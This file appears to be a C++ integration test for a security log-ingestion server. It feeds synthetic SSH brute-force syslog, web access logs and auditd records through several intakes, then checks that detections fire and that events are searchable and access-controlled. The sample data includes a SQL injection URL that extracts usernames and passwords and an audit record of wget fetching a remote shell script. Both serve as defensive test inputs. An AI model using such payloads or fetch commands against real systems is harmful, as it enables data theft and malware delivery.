@@ -1,0 +1,239 @@
+// Issue 4, must-show 1: SSH brute force, web SQL injection and auditd records sent to a real
+// `vigil serve` by syslog over TCP, TLS and UDP, by the HTTP intake and by a tailed file; the
+// rules fire, detections are stored with their events, and the events are searchable over the
+// API. Uses the project's own rules (rules/) so it needs no shared data.
+#include <fstream>
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <openssl/ssl.h>
+#include <sys/socket.h>
+
+#include "app/tests/serve_fixture.h"
+#include "auth/permissions.h"
+
+namespace vigil::app {
+namespace {
+
+using namespace vigil::app::serve_testing;  // NOLINT(google-build-using-namespace): the fixture
+using namespace std::chrono_literals;
+
+int Connect(uint16_t port, int type) {
+    int fd = ::socket(AF_INET, type, 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_port = htons(port);
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
+        ::close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+std::string SshFailures(const std::string& host, int n) {
+    std::string out;
+    for (int i = 0; i < n; ++i) {
+        out += "<38>Nov 21 08:15:" + std::to_string(10 + i) + " " + host + " sshd[" +
+               std::to_string(4000 + i) +
+               "]: Failed password for invalid user oracle from 203.0.113.7 port " +
+               std::to_string(50000 + i) + " ssh2\n";
+    }
+    return out;
+}
+
+class IngestTest : public ServeTest {
+protected:
+    void SetUp() override {
+        ServeTest::SetUp();
+        {
+            std::ofstream cfg(dir_ / "vigil.yml", std::ios::app);
+            cfg << "\ningest:\n"
+                << "  rules: [" << VIGIL_SOURCE_DIR << "/rules]\n"
+                << "  sources:\n"
+                << "    - {name: syslog-tcp, type: syslog-tcp, port: 0}\n"
+                << "    - {name: syslog-udp, type: syslog-udp, port: 0}\n"
+                << "    - {name: syslog-tls, type: syslog-tls, port: 0}\n"
+                << "    - name: web-files\n"
+                << "      type: file\n"
+                << "      paths: [" << (dir_ / "tailed" / "*.log").string() << "]\n"
+                << "      decoder: access\n"
+                << "      host: web01\n";
+        }
+        std::filesystem::create_directories(dir_ / "tailed");
+        Restart();
+    }
+};
+
+TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
+    // syslog over TCP (octet counting and newline framing mixed).
+    int fd = Connect(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
+    ASSERT_GE(fd, 0);
+    const std::string first =
+        "<38>Nov 21 08:15:01 bastion-tcp sshd[1]: Failed password for "
+        "invalid user oracle from 203.0.113.7 port 40000 ssh2";
+    const std::string tcp =
+        std::to_string(first.size()) + " " + first + SshFailures("bastion-tcp", 5);
+    ASSERT_EQ(::send(fd, tcp.data(), tcp.size(), MSG_NOSIGNAL), static_cast<ssize_t>(tcp.size()));
+    ::close(fd);
+
+    // syslog over UDP: one datagram per message.
+    fd = Connect(app_->ingest_port("syslog-udp"), SOCK_DGRAM);
+    std::string udp = SshFailures("bastion-udp", 3);
+    for (size_t pos = 0; pos < udp.size();) {
+        const size_t nl = udp.find('\n', pos);
+        ::send(fd, udp.data() + pos, nl - pos, 0);
+        pos = nl + 1;
+    }
+    ::close(fd);
+
+    // syslog over TLS 1.3, verified against the server's certificate.
+    {
+        int tfd = Connect(app_->ingest_port("syslog-tls"), SOCK_STREAM);
+        SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
+        SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
+        SSL_CTX_load_verify_locations(ctx, Cert().c_str(), nullptr);
+        SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, nullptr);
+        SSL* ssl = SSL_new(ctx);
+        SSL_set_fd(ssl, tfd);
+        SSL_set1_host(ssl, "localhost");
+        ASSERT_EQ(SSL_connect(ssl), 1);
+        const std::string tls = SshFailures("bastion-tls", 2);
+        ASSERT_GT(SSL_write(ssl, tls.data(), static_cast<int>(tls.size())), 0);
+        SSL_shutdown(ssl);
+        SSL_free(ssl);
+        SSL_CTX_free(ctx);
+        ::close(tfd);
+    }
+
+    // A tailed web access log with a SQL injection.
+    {
+        std::ofstream log(dir_ / "tailed" / "access.log");
+        log << "198.51.100.9 - - [21/Nov/2026:08:16:00 +0000] \"GET "
+               "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- "
+               "HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n";
+    }
+
+    // The HTTP intake with an ingest token (NDJSON: an auditd record and a JSON event).
+    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
+    HttpReply r =
+        Send("POST", "/api/v1/tokens",
+             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 30}}.dump(),
+             &manager);
+    ASSERT_EQ(r.status, 201) << r.body;
+    const std::string bearer =
+        "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n";
+    const std::string ndjson =
+        "type=EXECVE msg=audit(1763712915.123:77): argc=3 a0=\"wget\" a1=\"-q\" "
+        "a2=\"http://203.0.113.9/x.sh\"\n"
+        "{\"message\":\"hello from the intake\",\"app\":\"payments\"}\n";
+    const std::string raw =
+        "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n" + bearer +
+        "Content-Type: application/x-ndjson\r\nContent-Length: " + std::to_string(ndjson.size()) +
+        "\r\nConnection: close\r\n\r\n" + ndjson;
+    auto out = TlsExchange(app_->port(), Cert(), raw);
+    ASSERT_TRUE(out);
+    HttpReply intake = ParseReply(*out);
+    ASSERT_EQ(intake.status, 202) << intake.body;
+    EXPECT_EQ(Json(intake)["accepted"], 2);
+    // A token without the scope is refused.
+    r = Send("POST", "/api/v1/tokens",
+             json{{"name", "reader"}, {"scopes", {"system.status"}}, {"expires_days", 1}}.dump(),
+             &manager);
+    EXPECT_EQ(Send("POST", "/api/v1/events", "{}", nullptr, true,
+                   "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n")
+                  .status,
+              403);
+
+    // Wait until the tailer has polled and everything is stored (14 messages in all).
+    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
+    for (int i = 0; i < 200; ++i) {
+        if (app_->WaitIngestIdle(100ms)) {
+            HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
+            if (s.status == 200 && Json(s)["items"].size() >= 14) break;
+        }
+        std::this_thread::sleep_for(50ms);
+    }
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
+    ASSERT_EQ(r.status, 200) << r.body;
+    const json events = Json(r);
+    std::map<std::string, int> by_source;
+    for (const auto& e : events["items"]) by_source[e["source"].get<std::string>()]++;
+    EXPECT_EQ(by_source["syslog-tcp"], 6);
+    EXPECT_EQ(by_source["syslog-udp"], 3);
+    EXPECT_EQ(by_source["syslog-tls"], 2);
+    EXPECT_EQ(by_source["web-files"], 1);
+    EXPECT_EQ(by_source["http"], 2);
+
+    // Field filters and full text over the API.
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=bastion-udp", &analyst);
+    EXPECT_EQ(Json(r)["items"].size(), 3u) << r.body;
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=UNION", &analyst);
+    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
+    EXPECT_EQ(Json(r)["items"][0]["host"], "web01");
+    EXPECT_EQ(Json(r)["items"][0]["logsource"]["categories"][0], "webserver");
+
+    // Detections: SSH failures from every syslog transport, the SQL injection.
+    r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=500", &analyst);
+    ASSERT_EQ(r.status, 200) << r.body;
+    const json detections = Json(r);
+    std::map<std::string, int> by_rule;
+    for (const auto& d : detections["items"]) {
+        by_rule[d["rule_title"].get<std::string>()]++;
+        EXPECT_FALSE(d["event_ids"].empty());
+    }
+    int ssh = 0, web = 0;
+    for (const auto& [title, n] : by_rule) {
+        if (title.find("SSH") != std::string::npos) ssh += n;
+        if (title.find("SQL") != std::string::npos) web += n;
+    }
+    EXPECT_EQ(ssh, 11) << Json(r).dump();
+    EXPECT_GE(web, 1) << Json(r).dump();
+
+    // Counters per source, as JSON and for Prometheus.
+    r = Get("/api/v1/ingest/status", &analyst);
+    ASSERT_EQ(r.status, 200);
+    const json status = Json(r);
+    for (const auto& s : status["sources"]) {
+        if (s["name"] == "syslog-tcp") {
+            EXPECT_EQ(s["received"], 6);
+            EXPECT_EQ(s["stored"], 6);
+        }
+    }
+    r = Get("/metrics", &analyst);
+    ASSERT_EQ(r.status, 200);
+    EXPECT_NE(r.body.find("vigil_ingest_stored_total{source=\"syslog-udp\"} 3"), std::string::npos)
+        << r.body;
+    // The viewer may not search events.
+    Browser viewer = FullSession("vic", auth::Role::kViewer);
+    EXPECT_EQ(Get("/api/v1/events", &viewer).status, 403);
+}
+
+TEST_F(IngestTest, BadIntakeBodiesAreClearErrors) {
+    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
+    HttpReply r =
+        Send("POST", "/api/v1/tokens",
+             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
+             &manager);
+    const std::string bearer =
+        "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n";
+    auto post = [&](const std::string& body, const std::string& type) {
+        const std::string raw = "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n" + bearer +
+                                "Content-Type: " + type +
+                                "\r\nContent-Length: " + std::to_string(body.size()) +
+                                "\r\nConnection: close\r\n\r\n" + body;
+        return ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
+    };
+    EXPECT_EQ(post("", "application/json").status, 400);
+    EXPECT_EQ(post("\n\n", "text/plain").status, 400);
+    EXPECT_EQ(post("[1, 2", "application/json").status, 400);
+    EXPECT_EQ(post("a=b", "application/x-www-form-urlencoded").status, 415);
+    EXPECT_EQ(post(std::string(100, '{') + "\n", "application/x-ndjson").status, 202)
+        << "a malformed line is kept and stored as text";
+    r = Get("/api/v1/events?since=yesterday", &manager);
+    EXPECT_EQ(r.status, 400);
+    EXPECT_NE(r.body.find("RFC 3339"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace vigil::app
